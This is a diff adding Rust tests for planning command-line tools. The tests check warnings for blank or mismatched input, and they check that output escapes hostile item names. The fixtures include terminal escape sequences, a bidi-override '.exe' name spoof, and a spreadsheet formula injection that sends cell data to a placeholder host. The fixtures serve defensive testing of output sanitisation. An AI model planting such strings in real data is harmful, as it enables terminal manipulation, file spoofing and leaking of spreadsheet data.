@@ -239,3 +239,231 @@ fn a_short_params_line_is_one_problem_not_two() {
         "{err}"
     );
 }
+
+// ---- 2. Blanks, case, dates outside the plan -------------------------------
+
+/// A blank estimate or triage means what the format says (not estimated;
+/// triage 3) but is said on stderr with its line; `--strict` refuses it.
+#[test]
+fn blank_estimate_and_triage_are_warnings_and_strict_refuses_them() {
+    let sb = Sandbox::new();
+    let input = plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\t\t\tT"]);
+    let (code, out, err) = run(&sb, "qplan", &[], &input);
+    assert_eq!(code, 0, "{err}");
+    assert!(out.contains("\t\tT\t1\t3\tX\t\t\tDNF\tw1\n"), "{out}");
+    assert_eq!(
+        err,
+        "qplan: warning: reading stdin: line 7, section 'qplan work v1', column 4 (estimate), value \"\": no estimate: the item is not estimated, so it is DNF and in no demand\n\
+         qplan: warning: reading stdin: line 7, section 'qplan work v1', column 5 (triage), value \"\": no triage: read as 3, the least important level\n"
+    );
+    let (code, _, err) = run(&sb, "qplan", &["-q"], &input);
+    assert_eq!((code, err.as_str()), (0, ""));
+    for (tool, args) in [
+        ("qplan", &["--strict"][..]),
+        ("qcondition", &["--check", "--strict"][..]),
+        ("qwhatif", &["--strict", ""][..]),
+    ] {
+        let (code, out, err) = run(&sb, tool, args, &input);
+        assert_eq!((code, out.as_str()), (65, ""), "{tool}: {err}");
+        assert!(
+            err.contains(
+                "line 7, section 'qplan work v1', column 4 (estimate), value \"\": no estimate"
+            ),
+            "{tool}: {err}"
+        );
+    }
+}
+
+/// `apps` next to `Apps` was a second skill nobody has: the item's demand
+/// found no supply. Names that differ only in case are an error naming
+/// both, for skills (staff, estimates, scheduling skills) and tracks.
+#[test]
+fn names_that_differ_only_in_case_are_an_error() {
+    let sb = Sandbox::new();
+    let cases = [
+        (
+            plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tapps:1\t1\tT"]),
+            "line 7, section 'qplan work v1', column 4 (estimate), value \"apps:1\": the skill \"apps\" differs only in case from the skill \"Apps\" (line 5, section 'qplan staff v1')",
+        ),
+        (
+            plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tApps:1\t1\tt"]),
+            "line 7, section 'qplan work v1', column 6 (track), value \"t\": the track \"t\" differs only in case from the track \"T\" (line 5, section 'qplan staff v1')",
+        ),
+        (
+            plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tApps:1\t1\tT"])
+                .replace("\t2013-10-18\tApps\n", "\t2013-10-18\tAPPS\n"),
+            "line 2, section 'qplan params v1', column 3 (skills), value \"APPS\": the scheduling skill \"APPS\" differs only in case from the skill \"Apps\" (line 5, section 'qplan staff v1')",
+        ),
+    ];
+    for (input, want) in cases {
+        for (tool, args) in [("qplan", &[][..]), ("qcondition", &["--check"][..])] {
+            let (code, out, err) = run(&sb, tool, args, &input);
+            assert_eq!((code, out.as_str()), (65, ""), "{tool}: {err}");
+            assert!(err.contains(want), "{tool}: {err}");
+        }
+    }
+}
+
+/// A holiday or vacation with no day in the plan changes nothing: a
+/// warning with its line (a typo in the year is the usual cause).
+#[test]
+fn holidays_and_vacations_outside_the_plan_are_warnings() {
+    let sb = Sandbox::new();
+    let input = plan(
+        &["2031-10-08", "2013-10-08"],
+        &["p1\tAna\tM\tT\tApps\t2012-10-07..2012-10-11:2013-10-09"],
+        &["w1\t1\tX\tApps:1\t1\tT"],
+    );
+    let (code, out, err) = run(&sb, "qplan", &[], &input);
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(
+        err,
+        "qplan: warning: reading stdin: line 4, section 'qplan holidays v1', column 1 (date), value \"2031-10-08\": the holiday 2031-10-08 is outside the plan (2013-10-07 to 2013-10-18): it changes nothing\n\
+         qplan: warning: reading stdin: line 7, section 'qplan staff v1', column 6 (vacation), value \"2012-10-07..2012-10-11:2013-10-09\": the vacation 2012-10-07..2012-10-11 of Ana has no day in the plan (2013-10-07 to 2013-10-18): it changes nothing\n"
+    );
+    // The holiday of Oct 8 and the vacation day of Oct 9 still count: 5
+    // days of work from Oct 7 on Ana's 8 workdays end on Oct 15.
+    assert!(out.contains("\tX\tApps:1\t\t2013-10-15\tw1\n"), "{out}");
+    let (code, out, err) = run(&sb, "qplan", &["--strict"], &input);
+    assert_eq!((code, out.as_str()), (65, ""));
+    assert!(
+        err.contains("the holiday 2031-10-08 is outside the plan"),
+        "{err}"
+    );
+
+    // In a change script: the change's own place.
+    let input = plan(&[], &["p1\tAna\tM\tT\tApps\t"], &["w1\t1\tX\tApps:1\t1\tT"]);
+    let (code, _, err) = run(
+        &sb,
+        "qwhatif",
+        &["holiday 2031-10-08; vacation p1 2013-10-09"],
+        &input,
+    );
+    assert_eq!(code, 0, "{err}");
+    assert_eq!(
+        err,
+        "qwhatif: warning: changes, line 1, column 9: holiday 2031-10-08 has no day in the plan (2013-10-07 to 2013-10-18): it changes nothing\n"
+    );
+    // A holiday after the base plan, inside the end the script sets: no warning.
+    let (code, _, err) = run(
+        &sb,
+        "qwhatif",
+        &["end 2014-12-31; holiday 2014-10-08"],
+        &input,
+    );
+    assert_eq!((code, err.as_str()), (0, ""));
+    let (code, out, _) = run(&sb, "qwhatif", &["--strict", "holiday 2031-10-08"], &input);
+    assert_eq!((code, out.as_str()), (65, ""));
+}
+
+// ---- 5. Names that act on terminals and spreadsheets ------------------------
+
+const EVIL_TITLE: &str = "\u{1b}]0;pwned\u{7}";
+const EVIL_CLEAR: &str = "\u{1b}[2J";
+const EVIL_BIDI: &str = "abc\u{202e}fdp.exe";
+const EVIL_FORMULA: &str = "=HYPERLINK(\"http://x\"&A1)";
+
+fn evil_plan() -> String {
+    plan(
+        &[],
+        &["p1\tAna\tM\tT\tApps\t"],
+        &[
+            &format!("w1\t1\t{EVIL_TITLE}\tApps:1\t1\tT"),
+            &format!("w2\t2\t{EVIL_FORMULA}\tApps:1\t1\tT"),
+            &format!("w3\t3\t{EVIL_BIDI}\tApps:0.2\t1\tT"),
+            &format!("w4\t4\t{EVIL_CLEAR}\u{85}\u{7f}\tApps:0.2\t1\tT"),
+        ],
+    )
+}
+
+/// No text output sends a control character or a bidi override from the
+/// data: each is shown as an escape.
+#[test]
+fn text_outputs_show_control_characters_as_escapes() {
+    let sb = Sandbox::new();
+    let input = evil_plan();
+    let runs: [(&str, &[&str]); 4] = [
+        ("qplan", &["-f", "text"]),
+        ("qwhatif", &["--format", "text", "drop w2"]),
+        ("qwhatif", &["explain", "w4"]),
+        ("qplan", &["-f", "text", "--track", "T"]),
+    ];
+    for (tool, args) in runs {
+        let (code, out, err) = run(&sb, tool, args, &input);
+        assert_eq!(code, 0, "{tool} {args:?}: {err}");
+        let hidden: Vec<char> = out
+            .chars()
+            .filter(|&c| {
+                (c < ' ' && c != '\t' && c != '\n')
+                    || ('\u{7f}'..='\u{9f}').contains(&c)
+                    || ('\u{202a}'..='\u{202e}').contains(&c)
+            })
+            .collect();
+        assert!(hidden.is_empty(), "{tool} {args:?}: {hidden:?} in\n{out}");
+        if tool == "qplan" {
+            assert!(out.contains("\\x1b]0;pwned\\x07"), "{out}");
+            assert!(out.contains("abc\\u{202e}fdp.exe"), "{out}");
+            assert!(out.contains("\\x1b[2J\\u{85}\\x7f"), "{out}");
+        }
+    }
+    // An error message quoting such a name is escaped too.
+    let (code, _, err) = run(
+        &sb,
+        "qwhatif",
+        &["explain", EVIL_CLEAR],
+        &input.replace("\tw4\t", "\tw4x\t"),
+    );
+    assert!(code == 65 || code == 0, "{err}");
+    assert!(!err.contains('\u{1b}'), "{err:?}");
+}
+
+/// JSON and the stream keep names exactly; CSV neutralises formulas unless
+/// --csv-raw.
+#[test]
+fn json_and_streams_stay_exact_and_csv_neutralises_formulas() {
+    let sb = Sandbox::new();
+    let input = evil_plan();
+    let (_, json, _) = run(&sb, "qplan", &["-f", "json"], &input);
+    let v: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let names: Vec<&str> = v["tracks"][0]["work"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|w| w["name"].as_str().unwrap())
+        .collect();
+    let clear = format!("{EVIL_CLEAR}\u{85}\u{7f}");
+    assert_eq!(names, [EVIL_TITLE, EVIL_FORMULA, EVIL_BIDI, clear.as_str()]);
+    let (_, stream, _) = run(&sb, "qplan", &[], &input);
+    assert!(stream.contains(&format!("\t{EVIL_TITLE}\t")));
+
+    let (code, csv, _) = run(&sb, "qplan", &["-f", "csv"], &input);
+    assert_eq!(code, 0);
+    assert!(
+        csv.contains("All,T,2,1,w2,\"'=HYPERLINK(\"\"http://x\"\"&A1)\",Apps:1,,"),
+        "{csv}"
+    );
+    let (_, raw, _) = run(&sb, "qplan", &["-f", "csv", "--csv-raw"], &input);
+    assert!(
+        raw.contains("All,T,2,1,w2,\"=HYPERLINK(\"\"http://x\"\"&A1)\",Apps:1,,"),
+        "{raw}"
+    );
+    // Read back with a CSV reader, the raw cell is the name exactly.
+    let mut r = csv::Reader::from_reader(raw.as_bytes());
+    let cell: Vec<String> = r
+        .records()
+        .map(|rec| rec.unwrap()[5].to_owned())
+        .take(4)
+        .collect();
+    assert_eq!(cell, [EVIL_TITLE, EVIL_FORMULA, EVIL_BIDI, clear.as_str()]);
+
+    // qwhatif's diff as CSV: the same rule, the same flag.
+    let (_, diff, _) = run(&sb, "qwhatif", &["--format", "csv", "drop w1"], &input);
+    assert!(diff.contains("\"'=HYPERLINK("), "{diff}");
+    let (_, diff, _) = run(
+        &sb,
+        "qwhatif",
+        &["--format", "csv", "--csv-raw", "drop w1"],
+        &input,
+    );
+    assert!(diff.contains(",\"=HYPERLINK("), "{diff}");
+}
